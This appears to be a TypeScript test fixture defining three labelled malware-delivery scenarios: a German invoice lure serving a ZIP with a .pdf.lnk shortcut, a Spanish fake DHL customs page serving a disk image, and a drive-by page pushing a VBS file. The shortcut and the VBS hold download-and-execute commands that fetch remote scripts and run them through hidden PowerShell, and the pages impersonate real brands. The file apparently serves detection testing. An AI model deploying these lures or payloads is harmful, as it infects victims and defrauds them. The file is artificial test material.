import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { fileRoute, iso, jsRoute, lnk, pe, zip } from '../parts/e-bin.js';

// ---------- German invoice lure: ZIP with a .pdf.lnk ----------
const reHost = 'rechnungsportal.dokumente-abruf.de';
const rePage = `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Ihre Rechnung RE-2025-10-4471 – Dokumentenabruf</title>
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#eef2f6;color:#1e293b}
.hdr{background:#fff;border-bottom:1px solid #dde3ea;padding:14px 26px;display:flex;align-items:center;gap:10px}.hdr .ic{width:30px;height:30px;background:#e2001a;border-radius:4px}
.card{max-width:560px;margin:50px auto;background:#fff;border-radius:8px;box-shadow:0 2px 12px rgba(0,0,0,.07);padding:28px 32px}
.doc{display:flex;gap:14px;align-items:center;background:#f8fafc;border:1px solid #e2e8f0;border-radius:6px;padding:12px;margin:16px 0}
.doc .pdf{width:40px;height:50px;background:#e2001a;color:#fff;font-size:11px;font-weight:700;display:flex;align-items:flex-end;justify-content:center;padding-bottom:4px;border-radius:3px}
.cap{background:#f1f5f9;border-radius:6px;padding:12px;margin:12px 0;font-size:14px}.cap input{width:70px;padding:6px;margin-left:8px}
button{width:100%;background:#0f62fe;color:#fff;border:0;border-radius:6px;padding:12px;font-size:15px}button:disabled{background:#94a3b8}
.sm{font-size:12px;color:#64748b;margin-top:14px}
</style>
</head>
<body>
<div class="hdr"><div class="ic"></div><b>Dokumentenabruf</b><span style="margin-left:auto;font-size:13px;color:#64748b">Sicherer Kundenbereich</span></div>
<div class="card">
 <h2 style="margin-top:0">Ihre Rechnung ist verfügbar</h2>
 <p>Sehr geehrte Kundin, sehr geehrter Kunde,<br>anbei erhalten Sie Ihre Rechnung für den Abrechnungszeitraum Oktober 2025. Der Betrag von <b>1.284,60 €</b> ist fällig zum <b id="fa"></b>.</p>
 <div class="doc"><div class="pdf">PDF</div><div><b>Rechnung_RE-2025-10-4471.pdf</b><br><small>214 KB &middot; geschützt</small></div></div>
 <div class="cap">Sicherheitsabfrage: Wie viel ist <b id="q"></b>? <input id="a" inputmode="numeric"></div>
 <button id="dl" disabled>Dokument herunterladen</button>
 <p class="sm">Aus Sicherheitsgründen wird das Dokument als komprimiertes Archiv bereitgestellt. Bitte entpacken Sie die Datei und öffnen Sie die Rechnung.</p>
</div>
<script src="/abruf/s.js"></script>
</body>
</html>`;
const reJs = `(function(){var x=3+Math.floor(Math.random()*6),y=2+Math.floor(Math.random()*5);document.getElementById('q').textContent=x+' + '+y;
document.getElementById('fa').textContent=new Date(Date.now()+5*864e5).toLocaleDateString('de-DE');
var a=document.getElementById('a'),b=document.getElementById('dl');a.oninput=function(){b.disabled=(+a.value!==x+y)};
b.onclick=function(){var t=new URLSearchParams(location.search).get('t')||'';location.href='/abruf/get.php?id=RE-2025-10-4471&t='+t}})();`;
const reLnk = lnk(
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  '-w h -nop -c "$u=\'https://dokumente-abruf.de/abruf/p.png\';iwr $u -OutFile $env:TEMP\\r.pdf;start $env:TEMP\\r.pdf;iex(iwr \'https://cdn-upd.syncfile-host.com/st.ps1\' -UseB)"',
  'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
);

// ---------- Spanish courier lure delivering a .img disk image ----------
const esHost = 'seguimiento.dhl-envios-aduana.com';
const esPage = `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>DHL Express – Envío retenido en aduana</title>
<style>
body{margin:0;font-family:Frutiger,Arial,sans-serif;background:#f2f2f2;color:#333}
.y{background:#ffcc00;padding:14px 24px}.y b{color:#d40511;font-size:26px;font-style:italic;font-weight:900;letter-spacing:-1px}
.w{max-width:680px;margin:26px auto;background:#fff;padding:24px 30px;border-top:4px solid #d40511}
.st{display:flex;justify-content:space-between;margin:18px 0;font-size:12px;color:#999}.st span{flex:1;text-align:center;border-top:4px solid #ccc;padding-top:6px}.st span.on{border-color:#d40511;color:#d40511;font-weight:bold}
table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px 0;border-bottom:1px solid #eee}
.al{background:#fff4e5;border:1px solid #ffb74d;padding:12px;font-size:14px;margin:16px 0}
a.b{display:inline-block;background:#d40511;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:3px}
.f{font-size:11px;color:#888;text-align:center;padding:20px}
</style>
</head>
<body>
<div class="y"><b>DHL</b> <span style="font-weight:bold;margin-left:10px">EXPRESS</span></div>
<div class="w">
 <h2>Su envío está retenido en aduana</h2>
 <div class="st"><span>Recogido</span><span>En tránsito</span><span class="on">Aduana</span><span>En reparto</span><span>Entregado</span></div>
 <table><tr><td>Número de guía</td><td><b>JD014600009871524833</b></td></tr><tr><td>Origen</td><td>Shenzhen, CN</td></tr><tr><td>Destino</td><td>Madrid, ES</td></tr><tr><td>Peso</td><td>1,8 kg</td></tr></table>
 <div class="al">Para despachar su envío debe completar el <b>formulario de declaración aduanera (DUA)</b> y la factura comercial. Descargue el formulario, ábralo en su ordenador y siga las instrucciones. Si no se recibe en 72 horas, el paquete será devuelto al remitente.</div>
 <a class="b" href="/documentos/Declaracion_Aduanera_JD014600009871524833.img" download>Descargar formulario (Windows)</a>
 <p style="font-size:12px;color:#777">El archivo se abre con doble clic en Windows 10/11. No requiere programas adicionales.</p>
</div>
<div class="f">© 2025 DHL International GmbH. Todos los derechos reservados.</div>
</body>
</html>`;
const esImg = iso('DUA_JD01460', ['DECLARACION_ADUANERA.EXE', 'FACTURA_COMERCIAL.PDF.LNK']);
pe({ strings: ['Remcos', 'Declaracion Aduanera'] }).copy(esImg, 0x9800, 0, 0x800);

// ---------- Drive-by VBS: "remittance advice" file share that downloads on load ----------
const vbHost = 'share.securedocs-transfer.net';
const vbPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="2;url=/f/7QK29x/Remittance_Advice_0925.vbs">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Secure File Transfer – Remittance_Advice_0925</title>
<style>
body{margin:0;background:#f3f6fa;font-family:Arial,Helvetica,sans-serif;color:#1f2d3d;display:flex;align-items:center;justify-content:center;min-height:100vh}
.c{background:#fff;width:420px;border-radius:8px;box-shadow:0 4px 18px rgba(0,0,0,.08);padding:26px;text-align:center}
.sp{width:34px;height:34px;border:4px solid #dbe4ee;border-top-color:#2d7ff9;border-radius:50%;margin:12px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}
.f{background:#f6f8fb;border:1px solid #e3e9f0;border-radius:6px;padding:10px;margin:14px 0;font-size:14px}
small{color:#778}
</style>
</head>
<body>
<div class="c">
 <b style="font-size:18px">SecureDocs Transfer</b>
 <div class="sp"></div>
 <p>Your download will begin shortly&hellip;</p>
 <div class="f">&#128196; Remittance_Advice_0925.pdf<br><small>Shared by accounts.payable@ &middot; expires in 7 days</small></div>
 <small>If the download does not start, <a href="/f/7QK29x/Remittance_Advice_0925.vbs">click here</a>.</small>
</div>
<iframe src="/f/7QK29x/Remittance_Advice_0925.vbs" style="display:none" title=""></iframe>
</body>
</html>`;
const vbs = `' Remittance Advice viewer
On Error Resume Next
Dim s, f, u, p
Set s = CreateObject("WScript.Shell")
u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(115) & "://paste-bin-cdn.org/raw/Kx8uQ2"
p = s.ExpandEnvironmentStrings("%PUBLIC%") & "\\Libraries\\rem.ps1"
Set f = CreateObject("MSXML2.XMLHTTP")
f.Open "GET", u, False
f.Send
If f.Status = 200 Then
  Set o = CreateObject("ADODB.Stream")
  o.Type = 1 : o.Open : o.Write f.ResponseBody : o.SaveToFile p, 2 : o.Close
  s.Run "powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File """ & p & """", 0, False
End If
MsgBox "The document could not be opened: file is damaged.", 16, "Adobe Acrobat"
`;

export const entries: Entry[] = [
  {
    id: 'e-mal-rechnung-zip-lnk-de',
    label: 'malware',
    kind: 'document-lure',
    url: `https://${reHost}/abruf/?id=RE-2025-10-4471&t=a81f2c`,
    routes: {
      [`${reHost}/abruf/`]: htmlRoute(rePage),
      [`${reHost}/abruf/s.js`]: jsRoute(reJs),
      [`${reHost}/abruf/get.php`]: fileRoute(zip([{ name: 'Rechnung_RE-2025-10-4471.pdf.lnk', data: reLnk }]), 'application/zip', 'Rechnung_RE-2025-10-4471.zip'),
    },
  },
  {
    id: 'e-mal-envio-img-es',
    label: 'malware',
    kind: 'document-lure',
    url: 'https://dhl.es-entrega.info/t/JD014600009871524833',
    routes: {
      'dhl.es-entrega.info/t/JD014600009871524833': redirectRoute(302, `https://${esHost}/aduana/JD014600009871524833`),
      [`${esHost}/aduana/JD014600009871524833`]: htmlRoute(esPage),
      [`${esHost}/documentos/Declaracion_Aduanera_JD014600009871524833.img`]: fileRoute(esImg, 'application/octet-stream', 'Declaracion_Aduanera_JD014600009871524833.img'),
    },
  },
  {
    id: 'e-mal-driveby-vbs',
    label: 'malware',
    kind: 'drive-by-download',
    url: `https://${vbHost}/f/7QK29x`,
    body: vbPage,
    routes: {
      [`${vbHost}/f/7QK29x/Remittance_Advice_0925.vbs`]: fileRoute(vbs, 'application/octet-stream', 'Remittance_Advice_0925.vbs'),
    },
  },
];
